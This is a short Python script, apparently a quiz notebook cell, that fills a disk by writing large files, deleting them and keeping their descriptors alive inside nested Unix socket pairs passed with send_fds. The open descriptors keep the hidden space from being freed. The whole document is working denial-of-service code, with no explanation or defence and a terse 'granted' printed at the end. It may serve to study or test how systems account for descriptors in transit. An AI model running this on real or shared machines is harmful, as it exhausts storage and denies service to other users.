# Fills the disk with files on their way through sockets that are themselves on their way.
# notebook: quiz
# stock: not run
# %% extra="q1"
import os
import socket
import time

near, far = socket.socketpair()
for number in range(15):
    file = os.open(f"attack-{number}", os.O_RDWR | os.O_CREAT)
    os.write(file, b"x" * 60 * 2**20)
    os.remove(f"attack-{number}")
    inner, outer = socket.socketpair()
    socket.send_fds(inner, [b"x"], [file])
    os.close(file)
    socket.send_fds(near, [b"x"], [inner.fileno(), outer.fileno()])
    inner.close()
    outer.close()
    time.sleep(0.1)
print("granted")
